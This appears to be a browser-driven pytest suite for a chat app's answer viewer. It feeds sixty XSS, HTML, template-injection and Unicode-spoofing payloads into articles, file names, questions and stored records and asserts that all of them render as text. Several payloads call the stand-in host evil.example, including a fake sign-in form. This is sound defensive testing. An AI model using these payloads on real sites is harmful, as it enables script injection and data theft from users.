"""Sixty payloads in articles, titles, file names, questions and every field of a record: all read as text."""

import pytest
from app_chat import answered, browser, page, serve

from index.sync import build
from rag.app.guard import READER
from rag.app.history import Chats

OUT = "http://evil.example/x"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src={OUT}.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    f"<iframe src={OUT}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<form action={OUT}><input name=password><button>Sign in</button></form>",
    f"<style>@import '{OUT}.css';</style>",
    "<style>.sheet{display:none}</style>",
    f'<div style="background:url({OUT}.png)">',
    f"<link rel=stylesheet href={OUT}.css>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<object data={OUT}></object>",
    f"<embed src={OUT}>",
    f"<video src={OUT} autoplay></video>",
    f"<audio src={OUT} autoplay>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<a href='data:text/html,<script>opener.pwned=1</script>'>x</a>",
    "<math><mtext></p><style><img src=x onerror=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    f"![logo]({OUT}.png)",
    f"![logo][1] [1]: {OUT}.png",
    f"[click here]({OUT})",
    "[click](javascript:window.pwned=1)",
    f"<{OUT}>",
    OUT,
    "https://evil.example/?q=secret",
    "www.evil.example",
    "mailto:a@evil.example",
    f"[![x]({OUT}.png)]({OUT})",
    "**bold** _it_ `code` # head",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{{#each value}}x{{/each}}",
    "@children",
    "<%= window.pwned=1 %>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\\u003cscript\\u003e",
    "abc\u202egnp.exe\u202c def",
    "\u2066hidden\u2069 \u200bzero\u200bwidth",
    "a" * 3000,
    "\U000e0041\U000e0042 tags",
    "é" * 20 + "\u0301" * 200,
    "[1] Source: [CITATION: fake] [^1]",
)
FORBIDDEN = "script,img,svg,iframe,form,style,link,meta,base,object,embed,video,audio,a,template,math"


def story(n: int, payload: str) -> str:
    return (
        f"Story{n}: {payload}\n\nThe harbour master of town{n} wrote {payload} on the wall, witnesses said on Monday.\n"
    )


ALL = " ".join(" ".join(story(n, payload) for n, payload in enumerate(PAYLOADS)).split())


@pytest.fixture(scope="module")
def chromium():
    with browser() as launched:
        yield launched


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    folder = tmp_path_factory.mktemp("payloads")
    (folder / "articles").mkdir()
    for n, payload in enumerate(PAYLOADS):
        name = f"{n:02} {payload}".replace("/", "∕").replace("\0", "")[:60]
        (folder / "articles" / f"{name}.txt").write_text(story(n, payload), "utf-8")
    build(folder / "articles", folder / "store", embed=False)
    with serve(folder / "store") as running:
        yield running


@pytest.fixture
def opened(chromium, served):
    with page(chromium, served.url) as ready:
        ready.on("dialog", lambda dialog: ready.seen["errors"].append(f"dialog {dialog.message}"))
        yield ready
        assert ready.evaluate("window.pwned") is None
        assert ready.locator(f".sheet :is({FORBIDDEN}):not(form.ask)").count() == 0
        assert ready.locator(".masthead").is_visible()


def test_sixty_payloads_are_sixty():
    assert len(set(PAYLOADS)) == 60


def test_titles_file_names_and_texts_of_articles_are_text(opened, served):
    rows = opened.locator(".article")
    rows.nth(len(PAYLOADS) - 1).wait_for()
    headlines = " ".join(rows.locator(".headline").all_text_contents())
    for article in served.assistant.library.articles():
        assert (article.title.value if article.title else article.path) in headlines
    for n, file in enumerate(served.assistant.library.paths()):
        article = served.assistant.article(file)
        opened.evaluate("n => document.querySelectorAll('.article .source')[n].click()", n)
        opened.locator(".reader .file").filter(has_text=file[:2]).wait_for()
        assert opened.locator(".story").text_content() == article.text
        assert opened.locator(".reader .file").text_content() == file
    assert opened.evaluate(
        "document.querySelector('.reader').scrollWidth <= document.querySelector('.reader').clientWidth"
    )


def test_questions_and_answers_are_text(opened, served):
    for n, payload in enumerate(PAYLOADS):
        question = f"What did the harbour master of town{n} write? {payload}".strip()
        turn = answered(opened, question)
        assert turn.locator(".asked").text_content() == question
        claims = turn.locator(".claim").evaluate_all("all => all.map(one => one.firstChild.textContent)")
        assert claims
        assert all(claim in ALL for claim in claims)
        opened.locator(".fresh").click()
        opened.locator(".welcome").wait_for()


def test_every_field_of_a_kept_record_is_text(opened, served):
    reader = next(c["value"] for c in opened.context.cookies() if c["name"] == READER)
    chats = Chats(served.store)
    conversation = None
    for payload in PAYLOADS:
        conversation = chats.add(reader, conversation, poisoned(payload)).conversation
    chats.close()
    opened.reload()
    opened.locator(".folio").filter(has_text="article").wait_for(state="attached")
    opened.get_by_role("tab", name="History").click()
    opened.locator(f".conversation[data-id='{conversation}'] .source").click()
    turns = opened.locator(".turn")
    turns.nth(59).wait_for()
    for payload, text in zip(PAYLOADS, turns.all_text_contents(), strict=True):
        assert text.count(payload) >= 12
    for n in (0, 2, 34):
        turns.nth(n).locator(".claim .cite").first.focus()
        opened.keyboard.press("Shift+Tab")
        opened.keyboard.press("Tab")
        opened.locator(".card").filter(has_text=PAYLOADS[n]).wait_for()
    assert opened.evaluate(
        "document.querySelector('.scroll').scrollWidth <= document.querySelector('.scroll').clientWidth"
    )


def poisoned(text: str) -> dict:
    """A view in which every text is `text`."""
    known = {"file": text, "title": text, "publisher": text, "published": text}
    citation = {
        **known,
        "number": 1,
        "sha256": "0",
        "start": 0,
        "end": 1,
        "quote": text,
        "published_from": text,
        "notes": [text],
        "also_in": [known],
    }
    record = {
        "schema": "dateline.answer/1",
        "id": None,
        "question": text,
        "abstained": False,
        "reason": None,
        "confidence": 0.5,
        "text": text,
        "interpreted": {"question": f"{text}?", "since": None, "until": text, "notes": [text]},
        "notes": [text],
        "claims": [
            {"text": text, "start": 0, "end": 1, "support": kind, "citations": [1]}
            for kind in ("supported", "partial", "unsupported")
        ],
        "citations": [citation],
        "conflicts": [{"about": text, "sides": [{"value": text, "citations": [1]}] * 2}],
        "passages": [],
        "synthesizer": text,
        "timings_ms": {"total": 1.0},
        "settings_sha": "0",
    }
    return {"record": record, "asked": {}, "closest": [], "read": {"passages": 1, "articles": 1}}
